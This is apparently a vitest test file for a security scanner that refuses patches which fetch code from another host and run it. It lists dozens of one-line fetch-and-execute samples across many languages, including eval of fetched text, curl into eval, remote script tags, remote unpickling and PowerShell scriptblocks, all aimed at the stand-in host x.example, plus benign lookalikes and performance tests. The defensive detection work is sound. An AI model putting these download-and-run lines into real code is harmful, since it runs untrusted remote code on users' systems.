import { describe, expect, it } from 'vitest';
import { fetchedCodeRuns } from '../../shared/analysis/code-sinks.js';
import { dangerousCodeSignals, languageSignals } from '../../shared/analysis/dangerous-code.js';
import { cpuGrowthExponent, LINEAR_EXPONENT_BOUND } from '../support/growth.js';
import { expectAccepted, refusedFor } from '../support/patches.js';

/**
 * Attack pass 13, groups F and G (docs/attack-pass-13.md): code that runs what it fetched from another host in one
 * expression, accepted because the sink was not one fetch-exec named (F: `(0, eval)(`, `eval?.(`, `setTimeout(code)`,
 * `Reflect.apply`, `[scriptblock]::Create`, unpicklers given a stream, script elements, …) or because the fetch was not
 * one it knew or lay past the first `)` (G: a downloader's output, `got(`, `http.client`, `openStream`, …). Each row
 * below failed first. The reading that closes them (`shared/analysis/code-sinks.ts`) reads a sink's argument over its
 * balanced brackets, across lines; the script elements are `smuggled-code.ts`'s, the loaders that fetch by themselves
 * `dangerous-code.ts`'s.
 */

const M = 'docs/setup.md';

const refused = refusedFor(/fetch-exec|remote-script/);
const accepted = expectAccepted;

describe('pass 13, F: JavaScript sinks, called indirectly or reached through a callback', () => {
  it.each([
    ['src/load.js', "fetch('https://x.example/p').then((r) => r.text()).then(function (t) { eval(t); });"],
    ['src/load.js', "fetch('https://x.example/p').then((r) => r.text()).then(globalThis.eval);"],
    ['src/load.js', "fetch('https://x.example/p').then((r) => r.text()).then((t) => window.eval(t));"],
    ['src/load.js', "fetch('https://x.example/p').then((r) => r.text()).then((t) => (0, eval)(t));"],
    ['src/load.js', "eval?.(await (await fetch('https://x.example/p')).text());"],
    ['src/load.js', "(0, eval)(await (await fetch('https://x.example/p')).text());"],
    ['src/load.js', "setTimeout(await (await fetch('https://x.example/p')).text());"],
    ['src/load.js', "new AsyncFunction(await (await fetch('https://x.example/p')).text())();"],
    ['src/load.js', "eval.bind(null)(await (await fetch('https://x.example/p')).text());"],
    ['src/load.js', "Reflect.apply(eval, null, [await (await fetch('https://x.example/p')).text()]);"],
    ['src/load.js', "new vm.SourceTextModule(await (await fetch('https://x.example/p')).text());"],
    ['src/load.js', "spawnSync('sh', ['-c', await (await fetch('https://x.example/p')).text()]);"],
    ['src/load.js', "$.get('https://x.example/p.js', eval);"],
    ['src/load.js', "document.write(await (await fetch('https://x.example/p')).text());"],
  ])('refuses, in %s: %s', refused);

  it.each([
    ['src/a.js', 'const result = eval?.(expression);'],
    ['src/a.js', "setTimeout(() => fetch('/api/ping'), 1000);"],
    ['src/a.js', 'setTimeout(function () { fetch(url).then(render); }, 500);'],
    ['src/a.js', 'setInterval(async () => {\n  const r = await fetch(url);\n  update(await r.json());\n}, 5000);'],
    ['src/a.js', "spawnSync('sh', ['-c', 'npm test']);"],
    ['src/a.js', "fetch('/api/items').then((r) => r.json()).then(function (items) { render(items); });"],
    ['src/a.js', "$.get('/api/items', function (items) { render(items); });"],
    ['src/a.js', 'document.write(new Date().getFullYear());'],
    ['src/a.js', "load(config);\nconst r = await fetch('/api');"],
    ['src/a.js', "execSync('curl -sSf -o out.json https://api.example/x');"],
    ['src/a.js', 'execSync(`curl -sSf -o out.json ${url}`);'],
  ])('accepts, in %s: %s', accepted);
});

describe('pass 13, F: script elements and script loaders given another host', () => {
  it.each([
    ['src/load.js', "$.getScript('https://x.example/p.js');"],
    ['src/load.js', "importScripts('https://x.example/p.js');"],
    ['src/load.js', "const s = document.createElement('script'); s.src = 'https://x.example/p.js'; document.head.appendChild(s);"],
    ['src/load.js', `document.write('<script src="https://x.example/p.js"></script>');`],
    ['src/App.tsx', '<Script src="https://x.example/p.js" strategy="afterInteractive" />'],
    ['src/App.tsx', "<script src={'https://x.example/p.js'} />"],
    ['public/index.html', '<base href="https://x.example/"><script src="app.js"></script>'],
    ['public/index.html', '<script\n  src="https://x.example/p.js"></script>'],
    ['public/index.html', '<script src="https&#58;//x.example/p.js"></script>'],
  ])('refuses, in %s: %s', refused);

  it.each([
    ['public/index.html', '<script src="/static/app.js"></script>'],
    ['public/index.html', '<script\n  type="module"\n  src="./main.js"></script>'],
    ['src/App.tsx', "<script src={asset('app.js')} />"],
    ['public/index.html', '<base href="/">'],
    ['src/sw.js', "importScripts('workbox-sw.js');"],
    ['src/a.js', "const s = document.createElement('script'); s.src = '/static/p.js';"],
  ])('accepts, in %s: %s', accepted);
});

describe('pass 13, F: Python sinks, shells and unpicklers given a fetch', () => {
  it.each([
    ['src/load.py', "subprocess.run(requests.get('https://x.example/p').text, shell=True)"],
    ['src/load.py', "subprocess.run(['python3', '-c', requests.get('https://x.example/p').text])"],
    ['src/load.py', "code.InteractiveInterpreter().runsource(requests.get('https://x.example/p').text)"],
    ['src/load.py', "runpy.run_path(urlretrieve('https://x.example/p.py')[0])"],
    ['src/load.py', "df = pd.read_pickle('https://x.example/d.pkl')"],
    ['src/load.py', "m = joblib.load(urlopen('https://x.example/m.pkl'))"],
    ['src/load.py', "m = torch.load(urlopen('https://x.example/m.pt'), weights_only=False)"],
    ['src/load.py', "sd = torch.hub.load_state_dict_from_url('https://x.example/m.pt', weights_only=False)"],
    ['src/load.py', "a = np.load(urlopen('https://x.example/a.npy'), allow_pickle=True)"],
    ['src/load.py', 'docs = list(yaml.load_all(requests.get(u).text, Loader=yaml.Loader))'],
    ['src/load.py', 'docs = list(yaml.unsafe_load_all(requests.get(u).text))'],
    ['src/load.py', "pipe = pipeline('text-generation', model='someone/m', trust_remote_code=1)"],
    ['src/load.py', "model = hub.load('someone/repo', 'm')"],
    ['src/load.py', "builtins.__dict__['exec'](requests.get('https://x.example/p').text)"],
    ['src/load.py', "getattr(builtins, 'exec')(requests.get('https://x.example/p').text)"],
  ])('refuses, in %s: %s', refused);

  it.each([
    ['src/a.py', "exec(compile(source, path, 'exec'), namespace)"],
    ['src/a.py', "subprocess.run(['python3', '-c', 'import sys; print(sys.version)'])"],
    ['src/a.py', "subprocess.run('make', shell=True); r = requests.get(url)"],
    ['src/a.py', "df = pd.read_pickle('data/frame.pkl')"],
    ['src/a.py', "m = joblib.load('model.pkl')"],
    ['src/a.py', 'docs = list(yaml.load_all(open(p), Loader=yaml.SafeLoader))'],
    ['src/a.py', "pipe = pipeline('text-generation', model='gpt2')"],
  ])('accepts, in %s: %s', accepted);
});

describe('pass 13, F: sinks of Ruby, PHP, Groovy, .NET, Java, R, Julia, Elixir and PowerShell', () => {
  it.each([
    ['lib/load.rb', "Psych.unsafe_load(Net::HTTP.get(URI('https://x.example/p')))"],
    ['lib/load.rb', 'instance_eval URI.open("https://x.example/p").read'],
    ['lib/load.rb', 'RubyVM::InstructionSequence.compile(URI.open("https://x.example/p").read).eval'],
    ['src/load.php', "include 'https://x.example/p.php';"],
    ['src/load.php', 'include "data://text/plain;base64," . base64_encode(file_get_contents("https://x.example/p"));'],
    ['src/load.groovy', "new GroovyShell().evaluate(new URL('https://x.example/p.groovy').text)"],
    ['src/load.groovy', "Eval.me(new URL('https://x.example/p.groovy').text)"],
    ['src/Load.cs', 'await CSharpScript.EvaluateAsync(await client.GetStringAsync("https://x.example/p.csx"));'],
    ['src/Load.java', 'new URLClassLoader(new URL[] { new URL("https://x.example/p.jar") }).loadClass("P").getDeclaredConstructor().newInstance();'],
    ['src/load.r', 'source(file = "https://x.example/p.R")'],
    ['src/load.r', 'source(textConnection(readLines("https://x.example/p.R")))'],
    ['src/load.r', 'devtools::source_url(u)'],
    ['src/load.jl', 'include_string(Main, String(HTTP.get(u).body))'],
    ['src/load.ex', 'Code.eval_string(HTTPoison.get!(u).body)'],
    [M, 'powershell -c "& ([scriptblock]::Create((irm https://x.example/i.ps1)))"'],
  ])('refuses, in %s: %s', refused);

  it.each([
    ['lib/a.rb', 'instance_eval(&block)'],
    ['lib/a.rb', 'cfg = Psych.safe_load(File.read(path))'],
    ['src/a.php', "include 'config.php';"],
    ['src/a.php', "require_once __DIR__ . '/vendor/autoload.php';"],
    ['src/a.r', 'source("R/helpers.R")'],
    ['src/a.r', 'source(file = "R/helpers.R")'],
    ['src/a.jl', 'include("helpers.jl")'],
  ])('accepts, in %s: %s', accepted);
});

describe('pass 13, G: a fetch the sink\'s argument holds past its first parenthesis, or not known as one', () => {
  it.each([
    ['src/load.js', "eval(execSync('curl -s https://x.example/p').toString());"],
    ['src/load.py', "exec(subprocess.check_output(['curl', '-s', 'https://x.example/p']))"],
    ['lib/load.rb', "eval(`curl -s https://x.example/p`)"],
    ['lib/load.rb', 'eval %x(curl -s https://x.example/p)'],
    ['lib/load.pl', 'eval qx{curl -s https://x.example/p};'],
    ['src/load.php', "eval(shell_exec('curl -s https://x.example/p'));"],
    ['src/load.py', "exec(open(wget.download('https://x.example/p.py')).read())"],
    ['src/load.py', "exec(http.client.HTTPSConnection('x.example').getresponse().read())"],
    ['src/load.py', 'exec(__import__("urllib.request").request.urlopen(u).read())'],
    [M, `python3 -c "exec(__import__('urllib.request').request.urlopen('https://x.example/p').read())"`],
    ['src/load.py', "exec(boto3.client('s3').get_object(Bucket='b', Key='p.py')['Body'].read())"],
    ['src/load.js', "eval(await got('https://x.example/p').text());"],
    ['src/load.js', "eval((await axios('https://x.example/p')).data);"],
    ['src/load.js', "eval((await request('https://x.example/p')).body);"],
    ['src/load.js', "eval((await needle('get', 'https://x.example/p')).body);"],
    ['src/load.js', "eval((await undici.request('https://x.example/p')).body.text());"],
    ['src/load.js', "eval(await (await ofetch('https://x.example/p')));"],
    ['lib/load.rb', "eval(open('https://x.example/p').read)"],
    ['src/load.php', "eval(implode('', file('https://x.example/p')));"],
    ['src/load.php', "eval(stream_get_contents(fopen('https://x.example/p', 'r')));"],
    ['src/Load.cs', 'Assembly.Load(await client.GetByteArrayAsync("https://x.example/p.dll"));'],
    ['src/Load.java', 'engine.eval(new String(URI.create(u).toURL().openStream().readAllBytes()));'],
    ['src/load.r', 'eval(parse(text = readLines("https://x.example/p.R")))'],
    ['src/load.clj', '(load-string (slurp (java.net.URL. "https://x.example/p.clj")))'],
    ['src/load.lua', 'loadstring(game:HttpGet("https://x.example/p"))()'],
    ['src/load.jl', 'include(download("https://x.example/p.jl"))'],
    ['src/load.lua', 'dofile(download("https://x.example/p.lua"))'],
    ['src/load.js', 'const { data } = await axios.get(u); eval(data);'],
    // Review 67 (R67-1): a fetch assigned and run on another line is linked by its name, refused (it was the approval's warning).
    ['src/a.py', 'r = requests.get(url)\nexec(r.text)'],
  ])('refuses, in %s: %s', refused);

  // A downloader run for its file only downloads.
  it.each([
    ['lib/a.rb', "system('curl -fsSL -o data.json https://x.example/d.json')"],
    ['src/a.js', "const r = await got('/health');\nconsole.log(r.statusCode);"],
    ['src/a.js', "await request(app).get('/').expect(200);"],
    ['src/a.js', 'const { data } = await axios.get(u); console.log(data);'],
    ['src/a.js', 'const data = await fetch(u).then((r) => r.json()); setItems(data);'],
  ])('accepts, in %s: %s', accepted);
});

/**
 * Beyond the rows: the argument read to its real close whatever text in it holds a bracket (a string, a regular
 * expression, a comment, a string of several lines: each was read as a `)` ending the argument by one of the two
 * readings), across lines, and the same sinks and fetches spelled another way.
 */
describe('pass 14: the argument read to its real close, and other spellings of the rows', () => {
  it.each([
    ['src/a.js', 'eval(")" + await (await fetch(u)).text());'],
    ['src/a.js', 'eval(/)/.source + await (await fetch(u)).text());'],
    ['src/a.js', 'eval(`\n)` + await (await fetch(u)).text());'],
    ['src/a.js', 'eval(x /* ) */ + await (await fetch(u)).text());'],
    ['src/a.js', 'eval(x // )\n  + await (await fetch(u)).text());'],
    ['src/a.py', 'exec("""\n)""" + requests.get(u).text)'],
    ['src/a.py', 'exec(x # )\n  + requests.get(u).text)'],
    ['src/a.py', 'exec(\n    urlopen(u).read()\n)'],
    ['src/a.js', 'fetch(u)\n  .then((r) => r.text())\n  .then((t) => new Function(t)());'],
    ['src/a.js', "window['eval'](await (await fetch(u)).text());"],
    ['src/a.js', "require('vm').runInThisContext(await (await fetch(u)).text());"],
    [M, `ruby -e "eval(URI.open('https://x.example/p').read)"`],
    ['src/a.pl', "my $code = get('https://x.example/p'); eval $code;"],
    ['src/a.js', 'eval(await ky.get(u).text());'],
    ['src/a.py', 'subprocess.run(\n    requests.get(u).text,\n    shell=True,\n)'],
  ])('refuses, in %s: %s', refused);
});

/**
 * Installed packages' code the first version of this reading refused (`npm run patch:fp`): a sink's name in a
 * docstring or a regular expression with a bracket nothing closes, a `-c` program that only imports a client library,
 * a socket's `setTimeout(ms, callback)`, and help text that says "Include" before a quoted `name:value`.
 */
describe('pass 14: what installed packages hold that only looks like a sink given a fetch', () => {
  it.each([
    ['src/a.py', 'def identity(self):\n    """From the system (e.g. the gecos field, $USER@$(hostname -f).\n    """\n\ndef fetch(self, target):\n    return self.fetch_objects(target)'],
    ['src/a.py', 'session.run("python", "-c", "import urllib3; print(urllib3.__version__)")'],
    ['src/a.js', "const at = stack.replace(/\\(eval code/g, '(');\nconst url = new URL(resolved.url, base);"],
    ['src/a.js', 'const m = request(options); m.setTimeout(ms, () => { m.close(); });'],
    ['src/a.js', "desc: 'Include \"aws:cdk:path\" CloudFormation metadata for each resource',"],
  ])('accepts, in %s: %s', accepted);

  it.each([
    ['src/a.php', "include 'gs://bucket/object.php';"],
    ['src/a.js', 'window.setTimeout(await (await fetch(u)).text(), 0);'],
  ])('refuses, in %s: %s', refused);
});

/** Sizes of the cost texts: up to four times a patch, as the reading is given whole files too (`npm run patch:fp`). */
const sizes = [10, 20, 40, 80].map((kb) => kb * 1024);

/** The reading is linear whatever the text. */
describe('pass 14: the cost of reading sinks and fetches', () => {
  for (const [name, unit] of [
    ['sinks never closed', 'eval('],
    ['quotes never closed', `' " \x60 """ /* a/`],
    ['fetches assigned on one line', 'x = fetch(u); '],
    ['fetches with chains', 'fetch(u).then(a).then(b)\n'],
    ['calls looked ahead of', 'subprocess.run(setTimeout((yaml.load('],
    ['regular expressions and comments', '(/a/ # b // c\n'],
  ] as const) {
    it(`reads ${name} in linear time`, { timeout: 120_000 }, () => {
      const textOf = (bytes: number) => `fetch(u)\n${unit.repeat(Math.floor(bytes / unit.length))}`;
      const exponent = cpuGrowthExponent(sizes, textOf, (text) => fetchedCodeRuns('src/a.py', text));
      expect(exponent).toBeLessThan(LINEAR_EXPONENT_BOUND);
    });
  }
});

/**
 * Sinks on one line, as the code signals read whole files (and the check reads a patch's long line before it refuses
 * it for its length). PyYAML's `load(` looked for a safe loader to the end of its line from each `load(`, quadratic on
 * one such line (42 ms at 10 KB, 129 ms at 20 KB of them in a patch, before it was bounded to 300 characters).
 */
describe('pass 14: the cost of sinks on one long line', () => {
  for (const unit of ['yaml.load(', 'eval(', 'x = fetch(u); eval(x); ']) {
    it(`reads a line of ${unit} in linear time`, { timeout: 120_000 }, () => {
      const textOf = (bytes: number) => unit.repeat(Math.floor(bytes / unit.length));
      const exponent = cpuGrowthExponent(sizes, textOf, (line) => [dangerousCodeSignals(line), languageSignals('src/a.py', [line])]);
      expect(exponent).toBeLessThan(LINEAR_EXPONENT_BOUND);
    });
  }
});
